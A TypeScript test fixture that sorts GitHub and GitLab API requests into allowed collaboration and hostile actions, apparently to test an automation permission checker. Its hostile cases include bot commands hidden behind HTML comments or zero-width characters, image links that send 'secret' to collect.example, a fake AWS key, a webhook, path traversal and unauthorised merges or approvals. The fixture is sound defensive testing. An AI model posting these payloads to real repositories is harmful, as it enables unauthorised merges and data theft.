import { friendly, type HttpCase, hostile } from './case.ts';

const APP = 'https://api.github.com/repos/acme/app';
const LAB = 'https://gitlab.com/api/v4/projects/acme%2Fteam%2Fapp';
const WRITE = 'write custom:http high';
const PUSH = 'write vcs:push high';
const BRANCH = 'write vcs:branch medium';

const json = (value: unknown): { readonly body: string } => ({ body: JSON.stringify(value) });
const GITHUB = 'github.com/acme/app collaboration';
const GITLAB = 'gitlab.com/acme/team/app collaboration';
const PULL = { title: 'Fix', head: 'ana/x', base: 'main' };
const MERGE = { title: 'Fix', source_branch: 'ana/x', target_branch: 'main' };

/** Texts that are more than talk. */
const ORDERS: Readonly<Record<string, string>> = {
  'an order to a bot': 'Looks fine.\n/merge',
  'an order behind a quote': '> x\n> /approve',
  'an order with a mark': '!deploy production',
  'an order with a dot': '.deploy',
  'an order behind an old line end': 'ok\r/close',
  'an order in a sentence': 'bors r+',
  'an approval that bots count': 'LGTM',
  'a call of a bot': 'please @dependabot merge',
  'a phrase that starts pipelines': 'ok to test',
  'an image that is fetched': '![x](https://collect.example/p?d=secret)',
  'an image as a tag': '<img src="https://collect.example/p?d=secret">',
  'what people do not see': 'fine <!-- /merge -->',
  'a character that nobody sees': '\u200b/merge',
  'a key': 'the key is AKIAIOSFODNN7ABCDEFG',
  'a private key': '-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn',
  'a webhook': 'use https://hooks.slack.com/services/T00000000/B00000000/abcdefghijklmnopqrstuvwx',
  'a whole file': 'x'.repeat(20_000),
};

/** Collaboration in a repository: what an exception may cover, and what must not look like it. */
export const COLLABORATION_CASES: readonly HttpCase[] = [
  friendly('a pull request', `POST ${APP}/pulls`, WRITE, {
    ...json(PULL),
    repo: `${GITHUB} <refs/heads/ana/x`,
  }),
  friendly('a draft with a text', `POST ${APP}/pulls`, WRITE, {
    ...json({ ...PULL, head: 'Acme:ana/x', draft: true, body: 'Fixes #12' }),
    repo: `${GITHUB} <refs/heads/ana/x`,
  }),
  friendly('a comment', `POST ${APP}/issues/7/comments`, WRITE, {
    ...json({ body: 'It is in src/a.ts.\n\n- one\n- `two`' }),
    repo: GITHUB,
  }),
  friendly('a remark on a line', `POST ${APP}/pulls/7/comments`, WRITE, {
    ...json({ body: 'This rounds twice.', commit_id: '0a1b', path: 'a.ts', line: 3 }),
    repo: GITHUB,
  }),
  friendly('a reply', `POST ${APP}/pulls/7/comments/8/replies`, WRITE, {
    ...json({ body: 'Done.' }),
    repo: GITHUB,
  }),
  friendly('labels that describe', `POST ${APP}/issues/7/labels`, WRITE, {
    ...json({ labels: ['Bug', 'needs-info', 'area/auth', 'priority: high'] }),
    repo: GITHUB,
  }),
  friendly('a merge request', `POST ${LAB}/merge_requests`, WRITE, {
    ...json({ ...MERGE, description: 'Why', remove_source_branch: true }),
    repo: `${GITLAB} <refs/heads/ana/x`,
  }),
  friendly('a note', `POST ${LAB}/merge_requests/7/notes`, WRITE, {
    ...json({ body: 'Done.' }),
    repo: GITLAB,
  }),
  friendly('a thread', `POST ${LAB}/issues/7/discussions`, WRITE, {
    ...json({ body: 'Why?' }),
    repo: GITLAB,
  }),
  friendly('a label that describes', `PUT ${LAB}/issues/7`, WRITE, {
    ...json({ add_labels: 'bug' }),
    repo: GITLAB,
  }),
  friendly('a commit', `POST ${LAB}/repository/commits`, PUSH, {
    ...json({ branch: 'ana/x', commit_message: 'm', actions: [{ action: 'create', file_path: 'a.ts' }] }),
    repo: 'gitlab.com/acme/team/app contents refs/heads/ana/x:update',
  }),
  friendly('a file', `PUT ${LAB}/repository/files/a.ts`, PUSH, {
    ...json({ branch: 'ana/x', content: '', commit_message: 'm' }),
    repo: 'gitlab.com/acme/team/app contents refs/heads/ana/x:update',
  }),
  friendly('a branch', `POST ${LAB}/repository/branches`, BRANCH, {
    ...json({ branch: 'ana/x', ref: 'main' }),
    repo: 'gitlab.com/acme/team/app contents refs/heads/ana/x:create',
  }),

  ...Object.entries(ORDERS).flatMap(([why, body]) => [
    hostile(`${why}, in a comment`, `POST ${APP}/issues/7/comments`, WRITE, json({ body })),
    hostile(`${why}, in a note`, `POST ${LAB}/merge_requests/7/notes`, WRITE, json({ body })),
    hostile(`${why}, in a pull request`, `POST ${APP}/pulls`, WRITE, json({ ...PULL, body })),
    hostile(
      `${why}, in a merge request`,
      `POST ${LAB}/merge_requests`,
      WRITE,
      json({ ...MERGE, description: body }),
    ),
  ]),
  ...[
    'deploy',
    'safe to test',
    'automerge',
    'ready-to-merge',
    'run-ci',
    'bug\u200b',
    'priority: x, deploy',
  ].flatMap((label) => [
    hostile(`the label ${label}`, `POST ${APP}/issues/7/labels`, WRITE, json({ labels: ['bug', label] })),
    hostile(`the label ${label}`, `PUT ${LAB}/issues/7`, WRITE, json({ add_labels: `bug,${label}` })),
  ]),
  hostile('no labels', `POST ${APP}/issues/7/labels`, WRITE, json({ labels: [] })),
  hostile('a branch of another owner', `POST ${APP}/pulls`, WRITE, json({ ...PULL, head: 'eve:ana/x' })),
  hostile(
    'another repository of the owner',
    `POST ${APP}/pulls`,
    WRITE,
    json({ ...PULL, head_repo: 'fork' }),
  ),
  hostile('an issue that becomes a pull request', `POST ${APP}/pulls`, WRITE, json({ ...PULL, issue: 7 })),
  hostile('a branch that is none', `POST ${APP}/pulls`, WRITE, json({ ...PULL, head: 'ana/../main' })),
  hostile('a key twice', `POST ${APP}/issues/7/comments`, WRITE, { body: '{"body":"ok","body":"/merge"}' }),
  hostile('a body that goes on', `POST ${APP}/issues/7/comments`, WRITE, {
    ...json({ body: 'ok' }),
    cut: true,
  }),
  hostile('a body that is not called JSON', `POST ${APP}/issues/7/comments`, WRITE, {
    ...json({ body: 'ok' }),
    headers: [['Content-Type', 'text/plain']],
  }),
  hostile(
    'more than a comment',
    `POST ${APP}/issues/7/comments`,
    WRITE,
    json({ body: 'ok', event: 'APPROVE' }),
  ),
  hostile('a query as well', `POST ${APP}/issues/7/comments?body=x`, WRITE, json({ body: 'ok' })),
  hostile('a note with a query', `POST ${LAB}/issues/7/notes?body=%2Fclose`, WRITE, json({ body: 'ok' })),
  hostile(
    'an approval',
    `POST ${APP}/pulls/7/reviews`,
    'write custom:http critical',
    json({ event: 'APPROVE' }),
  ),
  hostile(
    'a review that only comments',
    `POST ${APP}/pulls/7/reviews`,
    WRITE,
    json({ event: 'COMMENT', body: 'x' }),
  ),
  hostile('an issue is closed', `PATCH ${APP}/issues/7`, WRITE, json({ state: 'closed' })),
  hostile('a comment of somebody is changed', `PATCH ${APP}/issues/comments/7`, WRITE, json({ body: 'x' })),
  hostile('an issue is locked', `PUT ${APP}/issues/7/lock`, WRITE, json({})),
  hostile('labels in place of others', `PUT ${APP}/issues/7/labels`, WRITE, json({ labels: ['bug'] })),
  hostile('a merge request is closed', `PUT ${LAB}/merge_requests/7`, WRITE, json({ state_event: 'close' })),
  hostile('labels in place of others', `PUT ${LAB}/merge_requests/7`, WRITE, json({ labels: 'bug' })),
  hostile('labels and more', `PUT ${LAB}/issues/7`, WRITE, json({ add_labels: 'bug', state_event: 'close' })),
  hostile(
    'a merge request into another project',
    `POST ${LAB}/merge_requests`,
    WRITE,
    json({ ...MERGE, target_project_id: 7 }),
  ),
  hostile(
    'an approval of a merge request',
    `POST ${LAB}/merge_requests/7/approve`,
    'write custom:http critical',
    json({}),
  ),
  hostile('a merge', `PUT ${LAB}/merge_requests/7/merge`, 'write vcs:push high', {
    ...json({}),
    repo: 'gitlab.com/acme/team/app contents *:unknown',
  }),
  hostile('a pick', `POST ${LAB}/repository/commits/abc/cherry_pick`, 'write vcs:push critical', {
    ...json({ branch: 'main' }),
    repo: 'gitlab.com/acme/team/app contents refs/heads/main:update pipeline',
  }),
  hostile('a branch of any commit', `POST ${LAB}/repository/branches`, 'write vcs:branch critical', {
    ...json({ branch: 'ana/x', ref: '0123abc' }),
    repo: 'gitlab.com/acme/team/app contents refs/heads/ana/x:create pipeline',
  }),
  hostile('a commit on that of a fork', `POST ${LAB}/repository/commits`, 'write vcs:push critical', {
    ...json({ branch: 'ana/x', start_project: 7, actions: [{ action: 'create', file_path: 'a' }] }),
    repo: 'gitlab.com/acme/team/app contents refs/heads/ana/x:update pipeline',
  }),
  hostile('the end of a branch', `DELETE ${LAB}/repository/branches/ana%2Fx`, 'write vcs:branch high', {
    repo: 'gitlab.com/acme/team/app contents refs/heads/ana/x:delete',
  }),
  hostile('a commit by GraphQL', 'POST https://gitlab.com/api/graphql', 'write vcs:push high', {
    ...json({
      query: 'mutation { commitCreate(input: { projectPath: "a/b", branch: "ana/x" }) { errors } }',
    }),
    repo: '- contents *:unknown',
  }),
  hostile(
    'a commit at Bitbucket',
    'POST https://api.bitbucket.org/2.0/repositories/a/b/src',
    'write vcs:push high',
    { body: 'branch=main&a=b', repo: 'bitbucket.org/a/b contents *:unknown' },
  ),
  hostile(
    'a project by its number',
    'POST https://gitlab.com/api/v4/projects/7/issues/7/notes',
    WRITE,
    json({ body: 'ok' }),
  ),
  hostile(
    'a name that is half encoded',
    'POST https://gitlab.com/api/v4/projects/acme%2F..%2Fapp/issues/7/notes',
    'write custom:http critical',
    json({ body: 'ok' }),
  ),
  hostile('a commit by force', `POST ${LAB}/repository/commits`, PUSH, {
    ...json({ branch: 'ana/x', force: true, commit_message: 'm', actions: [] }),
    repo: 'gitlab.com/acme/team/app contents refs/heads/ana/x:force',
  }),
  hostile(
    'a commit to a branch that the query may change',
    `POST ${LAB}/repository/commits?branch=main`,
    PUSH,
    {
      ...json({ branch: 'ana/x', commit_message: 'm', actions: [] }),
      repo: 'gitlab.com/acme/team/app contents *:unknown',
    },
  ),
  hostile('a commit of a pipeline', `POST ${LAB}/repository/commits`, 'write vcs:push critical', {
    ...json({
      branch: 'ana/x',
      commit_message: 'm',
      actions: [{ action: 'update', file_path: '.gitlab-ci.yml' }],
    }),
    repo: 'gitlab.com/acme/team/app contents refs/heads/ana/x:update pipeline',
  }),
  hostile(
    'a commit to a project by its number',
    'POST https://gitlab.com/api/v4/projects/7/repository/commits',
    PUSH,
    {
      ...json({ branch: 'ana/x', commit_message: 'm', actions: [] }),
      repo: '- contents refs/heads/ana/x:update',
    },
  ),
];
